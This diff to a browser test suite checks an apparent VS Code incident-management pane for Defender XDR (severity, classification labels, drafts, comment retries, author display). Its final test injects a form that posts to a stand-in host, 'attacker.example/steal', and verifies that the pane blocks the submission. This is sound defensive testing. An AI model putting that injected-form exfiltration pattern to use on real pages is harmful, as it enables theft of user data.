@@ -122,9 +122,9 @@ describe('management pane in Chromium', function () {
     await expectAction('setStatus', { kind: 'setStatus', status: 'InProgress' });
 
     await page.selectOption('#classification', 'FalsePositive');
-    await page.selectOption('#determination', 'InsufficientData');
+    await page.selectOption('#determination', 'NoEnoughDataToValidate');
     await page.click('#classify-save');
-    await expectAction('classify', { kind: 'classify', classification: 'FalsePositive', determination: 'InsufficientData' });
+    await expectAction('classify', { kind: 'classify', classification: 'FalsePositive', determination: 'NoEnoughDataToValidate' });
 
     await page.fill('#rename', 'Ransomware on fin-ws-042');
     await page.press('#rename', 'Enter');
@@ -177,7 +177,10 @@ describe('management pane in Chromium', function () {
       assert.deepStrictEqual(await values(), DETERMINATIONS_BY_CLASSIFICATION[c]);
     }
     assert.deepStrictEqual(await p.page.locator('#classification option').allTextContents(),
-      ['Not set', 'True positive', 'Informational expected activity', 'False positive']);
+      ['Not set', 'True positive', 'Informational, expected activity', 'False positive']);
+    // The portal's words, from the model's one label table.
+    assert.deepStrictEqual(await p.page.locator('#determination option').allTextContents(), ['Multistage attack', 'Malicious user activity',
+      'Compromised account', 'Malware', 'Phishing', 'Unwanted software', 'Other']);
     // Back to the saved pair: nothing to save.
     await p.page.selectOption('#determination', 'Malware');
     assert.strictEqual(await p.page.locator('#classify-save').getAttribute('aria-disabled'), 'true');
@@ -192,7 +195,7 @@ describe('management pane in Chromium', function () {
     assert.match((await p.text('label[for="resolve-comment"]'))!, /required/);
     await p.clearPosted();
     await page.click('#resolve-submit');
-    assert.match((await p.text('#resolve-error'))!, /classification.*determination.*resolving comment/);
+    assert.strictEqual(await p.text('#resolve-error'), 'Choose a classification. Add a comment.');
     assert.strictEqual(await page.getAttribute('#resolve-classification', 'aria-invalid'), 'true');
     assert.deepStrictEqual(await p.requests(), [], 'nothing is sent while the form is incomplete');
 
@@ -402,7 +405,7 @@ describe('management pane in Chromium', function () {
     const page = p.page;
     await p.clearPosted();
     await page.selectOption('#classification', 'FalsePositive');
-    await page.selectOption('#determination', 'Clean');
+    await page.selectOption('#determination', 'NotMalicious');
     await page.click('#classify-save');
     const m = await p.waitForRequest('classify');
     const conflict = { kind: 'conflict', message: 'The incident changed on the server.', changes: [
@@ -450,16 +453,20 @@ describe('management pane in Chromium', function () {
     assert.notStrictEqual(await p.text('#status-area'), 'stray');
   });
 
-  it('rename is disabled with the reason when the backend cannot rename', async () => {
-    const p = await open(paneState({ capabilities: { backendName: 'Microsoft Graph security API', canRename: false, canUpdateAlerts: true } }));
+  it('rename and severity are disabled with the reason when the backend cannot change them', async () => {
+    const p = await open(paneState({ capabilities: { backendName: 'Microsoft Defender XDR API', backendKind: 'defender', canRename: false, canChangeSeverity: false, canUpdateAlerts: true } }));
     const page = p.page;
     assert.ok(await page.locator('#rename').isDisabled());
     assert.strictEqual(await page.locator('#rename-submit').getAttribute('aria-disabled'), 'true');
-    assert.strictEqual(await p.text('#rename-reason'), 'The Microsoft Graph security API cannot rename incidents.');
+    assert.ok(await page.locator('#severity').isDisabled());
+    assert.strictEqual(await page.locator('#severity-apply').getAttribute('aria-disabled'), 'true');
+    assert.strictEqual(await p.text('#rename-reason'), 'The Microsoft Defender XDR API cannot rename incidents or change severity; the Graph security API can.');
+    assert.strictEqual(await page.getAttribute('#severity', 'aria-describedby'), 'rename-reason');
     assert.ok(await page.locator('#rename-reason').isVisible());
     assert.strictEqual(await page.getAttribute('#rename', 'aria-describedby'), 'rename-reason');
     await p.clearPosted();
     await page.locator('#rename-submit').dispatchEvent('click');
+    await page.locator('#severity-apply').dispatchEvent('click');
     await page.waitForTimeout(100);
     assert.deepStrictEqual(await p.requests(), []);
   });
@@ -471,5 +478,215 @@ describe('management pane in Chromium', function () {
     assert.strictEqual(await p.page.inputValue('#status'), 'AwaitingAction');
     assert.strictEqual(await p.page.inputValue('#classification'), 'SomethingNew');
     assert.strictEqual(await p.page.locator('#classify-save').getAttribute('aria-disabled'), 'true');
+  });
+
+  it('severity: a backend that can change it offers High, Medium, Low and Informational and sends setSeverity', async () => {
+    const p = await open(paneState({}, { severity: 'High' }));
+    const page = p.page;
+    assert.ok(await page.locator('#severity').isEnabled());
+    assert.ok(await page.locator('#rename-reason').isHidden());
+    assert.deepStrictEqual(await page.locator('#severity option').allTextContents(), ['High', 'Medium', 'Low', 'Informational']);
+    assert.strictEqual(await page.inputValue('#severity'), 'High');
+    assert.strictEqual(await page.locator('#severity-apply').getAttribute('aria-disabled'), 'true', 'nothing to save yet');
+    await p.clearPosted();
+    await page.selectOption('#severity', 'Informational');
+    await page.click('#severity-apply');
+    const m = await p.waitForRequest('setSeverity');
+    assert.deepStrictEqual(m.action, { kind: 'setSeverity', severity: 'Informational' });
+    assert.strictEqual(m.incidentId, '3921');
+    await p.deliver({ type: 'response', id: m.id, ok: true, message: 'Severity set to Informational' });
+    await p.deliver({ type: 'state', state: paneState({}, { severity: 'Informational' }) });
+    assert.strictEqual(await page.inputValue('#severity'), 'Informational');
+    assert.strictEqual(await p.text('#incident-severity'), 'Informational');
+
+    // The service's own value (UnSpecified) is shown but not offered; rename-only limits say only that.
+    await p.deliver({ type: 'state', state: paneState({ capabilities: { backendName: 'mock backend', backendKind: 'mock', canRename: false, canChangeSeverity: true, canUpdateAlerts: true } }, { severity: 'UnSpecified' }) });
+    assert.strictEqual(await page.inputValue('#severity'), 'UnSpecified');
+    assert.ok(await page.locator('#severity option[value="UnSpecified"]').isDisabled());
+    assert.strictEqual(await p.text('#rename-reason'), 'The mock backend cannot rename incidents.');
+    assert.ok(await page.locator('#severity').isEnabled());
+  });
+
+  it('every request names the incident it is for, also after a preview switch; answers for the old incident are ignored', async () => {
+    const p = await open();
+    const page = p.page;
+    await p.clearPosted();
+    await page.click('#assign-me');
+    const a = await p.waitForRequest('assignToMe');
+    assert.strictEqual(a.incidentId, '3921');
+    await p.deliver({ type: 'state', state: paneState({}, { id: '4077', name: 'Another incident', assignedTo: null }) });
+    await p.deliver({ type: 'response', id: a.id, ok: false, error: { kind: 'wrongIncident', message: 'meant for #3921' } });
+    assert.notStrictEqual(await p.text('#status-area'), 'meant for #3921');
+    await p.clearPosted();
+    await page.click('#assign-me');
+    assert.strictEqual((await p.waitForRequest('assignToMe')).incidentId, '4077');
+  });
+
+  it('an incident id the extension would refuse is not sent; the pane says why', async () => {
+    const p = await open(paneState({}, { id: 'x'.repeat(1001) }));
+    await p.clearPosted();
+    await p.page.click('#assign-me');
+    assert.deepStrictEqual(await p.requests(), []);
+    assert.match((await p.text('#status-area'))!, /cannot be changed from the pane/);
+  });
+
+  it('after Assign to me, what the backend could not do stays as a warning', async () => {
+    const p = await open();
+    await p.clearPosted();
+    await p.page.click('#assign-me');
+    const m = await p.waitForRequest('assignToMe');
+    const warning = '2 alerts are not assigned to you because the Microsoft Defender XDR API cannot update alerts: "A", "B".';
+    await p.deliver({ type: 'response', id: m.id, ok: true, message: 'Assigned to you (analyst@contoso.com)', warning });
+    assert.strictEqual(await p.text('#status-area'), `Assigned to you (analyst@contoso.com). ${warning}`);
+    assert.strictEqual(await p.page.getAttribute('#status-area', 'class'), 'notice warning');
+  });
+
+  it('the resolving comment is kept as a draft: across reload, from the extension, and per incident on a preview switch', async () => {
+    const p = await open();
+    const page = p.page;
+    await p.clearPosted();
+    await page.selectOption('#status', 'Resolved');
+    await page.fill('#resolve-comment', 'Benign: red team exercise, ticket SEC-1142.');
+    const m = await p.waitForPosted(x => x.type === 'drafts');
+    assert.ok(m.type === 'drafts');
+    assert.deepStrictEqual(m.drafts, { resolveComment: 'Benign: red team exercise, ticket SEC-1142.' });
+    assert.strictEqual(m.incidentId, '3921');
+
+    await p.reload();
+    assert.ok(await page.locator('#resolve-form').isVisible(), 'the form is open again with the kept text in sight');
+    assert.strictEqual(await page.inputValue('#status'), 'Resolved');
+    assert.strictEqual(await page.inputValue('#resolve-comment'), 'Benign: red team exercise, ticket SEC-1142.');
+
+    // A preview switch saves it under its own incident and starts the next one clean.
+    await p.clearPosted();
+    await p.deliver({ type: 'state', state: paneState({}, { id: '4077', name: 'Another incident' }) });
+    const saved = await p.waitForPosted(x => x.type === 'drafts');
+    assert.deepStrictEqual(saved, { type: 'drafts', drafts: { resolveComment: 'Benign: red team exercise, ticket SEC-1142.' }, incidentId: '3921' });
+    assert.strictEqual(await page.inputValue('#resolve-comment'), '');
+    assert.ok(await page.locator('#resolve-form').isHidden());
+    assert.strictEqual(await page.inputValue('#status'), 'Active');
+
+    // Back to the first: the extension's copy of the draft fills the form.
+    await p.deliver({ type: 'state', state: paneState({ drafts: { resolveComment: 'Benign: red team exercise, ticket SEC-1142.' } }) });
+    assert.ok(await page.locator('#resolve-form').isVisible());
+    assert.strictEqual(await page.inputValue('#resolve-comment'), 'Benign: red team exercise, ticket SEC-1142.');
+  });
+
+  it('an earlier send that completes does not clear what was typed since (comment and resolving comment)', async () => {
+    const p = await open();
+    const page = p.page;
+    await p.clearPosted();
+    await page.fill('#comment', 'First note');
+    await page.click('#add-comment');
+    const first = await p.waitForRequest('addComment');
+    await page.fill('#comment', 'Second note, typed while the first was sending');
+    await p.waitForPosted(x => x.type === 'drafts' && x.drafts.comment === 'Second note, typed while the first was sending');
+    await p.clearPosted();
+    await p.deliver({ type: 'response', id: first.id, ok: true, message: 'Comment added' });
+    assert.ok(first.action.kind === 'addComment');
+    await page.waitForSelector(`.entry.state-confirmed[data-key="${first.action.clientId}"]`);
+    assert.strictEqual(await page.inputValue('#comment'), 'Second note, typed while the first was sending');
+    await page.waitForTimeout(400);
+    assert.ok(!(await p.posted()).some(x => x.type === 'drafts' && x.drafts.comment !== 'Second note, typed while the first was sending'), 'no draft without the newer text');
+    assert.strictEqual((await p.storedState() as { drafts: { comment?: string } }).drafts.comment, 'Second note, typed while the first was sending');
+
+    await page.selectOption('#status', 'Resolved');
+    await page.fill('#resolve-comment', 'Closing as benign');
+    await page.click('#resolve-submit');
+    const resolve = await p.waitForRequest('setStatus');
+    assert.deepStrictEqual(resolve.action, { kind: 'setStatus', status: 'Resolved', classification: 'TruePositive', determination: 'Malware', comment: 'Closing as benign' });
+    await page.fill('#resolve-comment', 'Closing as benign, after all a true positive');
+    await p.deliver({ type: 'response', id: resolve.id, ok: true, message: 'Resolved' });
+    assert.strictEqual(await page.inputValue('#resolve-comment'), 'Closing as benign, after all a true positive');
+
+    // When nothing changed meanwhile, a confirmed send clears its draft.
+    await p.clearPosted();
+    const again = await (async () => { await page.click('#resolve-submit'); return p.waitForRequest('setStatus'); })();
+    await p.deliver({ type: 'response', id: again.id, ok: true, message: 'Resolved' });
+    assert.strictEqual(await page.inputValue('#resolve-comment'), '');
+    const cleared = await p.waitForPosted(x => x.type === 'drafts' && x.drafts.resolveComment === undefined);
+    assert.ok(cleared.type === 'drafts' && cleared.drafts.comment === 'Second note, typed while the first was sending');
+  });
+
+  it('a comment a crash left unconfirmed says so, with Retry (the extension re-reads first) and Discard', async () => {
+    const s = paneState();
+    s.timeline.push({ key: 'out-1', kind: 'comment', time: new Date().toISOString(), author: 'analyst@contoso.com', text: 'Contained the host.',
+      state: 'unconfirmed', error: 'VS Code closed while this comment was being sent: it may or may not have been posted. Retry checks the incident first.' });
+    const p = await open(s);
+    const page = p.page;
+    const entry = page.locator('.entry[data-key="out-1"]');
+    assert.strictEqual(await entry.getAttribute('class'), 'entry kind-comment state-unconfirmed');
+    assert.strictEqual(await entry.locator('.entry-state').textContent(), 'Not confirmed');
+    assert.match((await entry.locator('.entry-error').textContent())!, /may or may not have been posted/);
+    await p.clearPosted();
+    await entry.getByRole('button', { name: 'Retry sending this comment' }).click();
+    assert.deepStrictEqual((await p.waitForRequest('retryComment')).action, { kind: 'retryComment', clientId: 'out-1' });
+    await page.waitForSelector('.entry.state-pending[data-key="out-1"]');
+
+    // Submitting the same text again retries it rather than posting it twice.
+    await p.deliver({ type: 'state', state: s });
+    await p.clearPosted();
+    await page.fill('#comment', 'Contained the host.');
+    await page.click('#add-comment');
+    assert.deepStrictEqual((await p.waitForRequest('retryComment')).action, { kind: 'retryComment', clientId: 'out-1' });
+
+    await p.deliver({ type: 'state', state: s });
+    await p.clearPosted();
+    await page.locator('.entry[data-key="out-1"]').getByRole('button', { name: 'Discard this comment' }).click();
+    assert.deepStrictEqual((await p.waitForRequest('discardComment')).action, { kind: 'discardComment', clientId: 'out-1' });
+  });
+
+  it('Copy refuses more than 100,000 characters with a message', async () => {
+    const s = paneState();
+    s.timeline.push({ key: 'big', kind: 'comment', time: new Date().toISOString(), author: 'analyst@contoso.com', text: 'y'.repeat(150_000), state: 'failed', error: 'Too long for the server.' });
+    const p = await open(s);
+    await p.clearPosted();
+    await p.page.locator('.entry[data-key="big"]').getByRole('button', { name: 'Copy comment text' }).click();
+    assert.strictEqual(await p.text('#status-area'), 'This text is too long to copy (150,000 characters; at most 100,000).');
+    assert.deepStrictEqual(await p.requests(), []);
+  });
+
+  it('who wrote or changed what: server authors, app registrations, this editor, invisible characters shown', async () => {
+    const t = Date.now();
+    const at = (min: number) => new Date(t - min * 60_000).toISOString();
+    const p = await open(paneState({ timeline: [
+      { key: 'c-app', kind: 'comment', time: at(50), author: 'API-App:1b2c3d4e-0000-4000-8000-00000000abcd', text: 'Posted by automation.', state: 'confirmed' },
+      { key: 'c-none', kind: 'comment', time: at(40), author: null, text: 'Nobody recorded.', state: 'confirmed' },
+      { key: 'j-editor', kind: 'change', source: 'editor', time: at(30), author: 'analyst@contoso.com', text: 'Owner', field: 'owner', from: null, to: 'adm\u200Bin@contoso.com', state: 'confirmed' },
+      { key: 'o-named', kind: 'observed', source: 'server', time: at(20), author: 'megan.bowen@contoso.com', text: 'Status', field: 'status', from: 'Active', to: 'In progress', state: 'confirmed' },
+      { key: 'o-anon', kind: 'observed', source: 'server', time: at(10), author: null, text: 'Tags', field: 'tags', from: null, to: 'x', state: 'confirmed' },
+    ] }, { assignedTo: 'adm\u200Bin@con\u202Etoso.com', lastModifiedBy: 'megan.bowen@contoso.com' }));
+    const head = (k: string) => p.text(`.entry[data-key="${k}"] .entry-head`);
+    assert.match((await head('c-app'))!, /^API-App:1b2c3d4e-0000-4000-8000-00000000abcd \(posted through the app registration\) commented /);
+    assert.match((await head('c-none'))!, /^Unknown commented /);
+    assert.match((await head('j-editor'))!, /^analyst@contoso\.com changed from this editor /);
+    assert.strictEqual(await p.text('.entry[data-key="j-editor"] .to'), 'adm⟦U+200B⟧in@contoso.com');
+    assert.match((await head('o-named'))!, /^megan\.bowen@contoso\.com changed on the server /);
+    assert.match((await head('o-anon'))!, /^Changed on the server \(it does not say by whom\) /);
+    assert.strictEqual(await p.text('#owner'), 'adm⟦U+200B⟧in@con⟦U+202E⟧toso.com');
+    assert.strictEqual(await p.text('#header-owner'), 'adm⟦U+200B⟧in@con⟦U+202E⟧toso.com');
+    assert.strictEqual(await p.text('#incident-modified-by'), 'megan.bowen@contoso.com');
+  });
+
+  it('the page refuses to submit any form (and its CSP says base-uri and form-action none)', async () => {
+    const p = await open();
+    const page = p.page;
+    const csp = await page.evaluate('document.querySelector(\'meta[http-equiv="Content-Security-Policy"]\').content') as string;
+    assert.match(csp, /(^|; )base-uri 'none'(;|$)/);
+    assert.match(csp, /(^|; )form-action 'none'(;|$)/);
+    assert.strictEqual(await page.locator('form').count(), 0);
+    const before = page.url();
+    // Script that got in some other way adds a form and submits it: the pane cancels the submission.
+    const prevented = await page.evaluate(`new Promise(resolve => {
+      const f = document.createElement('form');
+      f.action = 'https://attacker.example/steal';
+      f.method = 'post';
+      document.body.append(f);
+      f.addEventListener('submit', e => resolve(e.defaultPrevented));
+      f.requestSubmit();
+    })`);
+    assert.strictEqual(prevented, true);
+    await page.waitForTimeout(200);
+    assert.strictEqual(page.url(), before);
   });
 });
